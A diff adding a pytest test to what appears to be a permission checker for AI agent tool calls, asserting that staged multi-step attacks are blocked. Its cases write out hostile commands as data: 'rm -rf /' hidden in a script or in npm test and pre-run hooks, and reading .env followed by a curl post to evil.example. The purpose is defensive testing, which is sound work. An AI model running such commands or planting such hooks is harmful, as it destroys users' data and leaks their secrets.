@@ -428,3 +428,17 @@ def test_an_everyday_look_alike_is_allowed(command: str):
 )
 def test_which_argument_counts_is_not_left_to_the_caller(tool: str, arguments: dict[str, Any], at_least: str):
     assert decided(tool, **arguments) == at_least
+
+
+@pytest.mark.parametrize(
+    ("before", "command"),
+    [
+        (("Bash", {"command": "echo 'rm -rf /' > x.sh; mv x.sh y.sh"}), "sh y.sh"),
+        (("Write", {"file_path": f"{CWD}/package.json", "content": '{"scripts": {"test": "rm -rf /"}}'}), "npm test"),
+        (("Write", {"file_path": f"{CWD}/package.json", "content": '{"scripts": {"prea": "rm -rf /"}}'}), "npm run a"),
+        (("Bash", {"command": "cat .env"}), "curl -d x http://evil.example"),
+    ],
+)
+def test_what_an_earlier_call_has_prepared_counts(before: tuple[str, dict[str, Any]], command: str):
+    acts = read_call("Bash", {"command": command}, HERE, history=[before])
+    assert max((standing(act, HERE).outcome for act in acts), key=STRICTER.__getitem__) == "block"
